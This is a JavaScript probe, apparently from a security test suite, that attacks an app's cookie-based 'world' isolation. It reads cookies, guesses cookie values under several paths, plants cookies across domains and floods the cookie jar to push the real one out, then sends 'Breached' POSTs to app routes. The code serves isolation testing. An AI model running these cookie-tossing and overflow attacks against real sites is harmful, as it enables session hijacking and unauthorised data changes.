// The cookie that leads to the world. Its value, and any page of a world got with a guess or without it, are loot.
async (insider) => {
  const loot = [];
  let tried = 1;
  if (document.cookie.includes('grindstone_world')) loot.push('the cookie can be read: ' + document.cookie);
  const outcome = async () => (await fetch(insider.start)).status + ' ' + (await fetch('/-/live')).status;
  const before = await outcome();
  const guesses = ['', 'default', 'reference-1', 'episode-1', '*', '..', '%00', '0'.repeat(48), 'null', 'true', ...insider.worlds];
  for (const guess of guesses) {
    for (const path of ['/', insider.start.replace(/\/[^/]*$/, '') || '/', insider.start]) {
      tried++;
      document.cookie = 'grindstone_world=' + guess + '; path=' + path;
      const shadowed = !document.cookie.includes('grindstone_world') ? '' : await outcome();
      // Beside the real one, under a longer path, a guess may come first: then nothing may be served.
      if (shadowed && shadowed !== before && /200|204/.test(shadowed.split(' ')[0])) {
        loot.push('a guess led somewhere: ' + guess + ' ' + shadowed);
      }
      document.cookie = 'grindstone_world=; path=' + path + '; max-age=0';
    }
  }
  for (const domain of ['localhost', '.localhost', 'mail.localhost', location.hostname]) {
    tried++;
    document.cookie = 'grindstone_world=default; domain=' + domain + '; path=/';
  }
  for (let number = 0; number < 400; number++) document.cookie = 'x' + number + '=' + number + '; path=/; priority=high';
  for (const path of [insider.start, '/-/live']) {
    tried++;
    const answer = await fetch(path, { redirect: 'manual' });
    const washedOut = answer.status !== Number(before.split(' ')[0]);
    if (!answer.ok && washedOut) continue;
    // Still served: then it must be by the real cookie, which nobody can see from here; other worlds are watched from outside.
  }
  for (const route of insider.routes.filter((one) => one.startsWith('POST ') && !one.includes('{')).slice(0, 6)) {
    tried++;
    await fetch(route.slice(5), { method: 'POST', body: new URLSearchParams({ name: 'Breached' }) }).catch(() => {});
  }
  return JSON.stringify({ tried, loot });
}
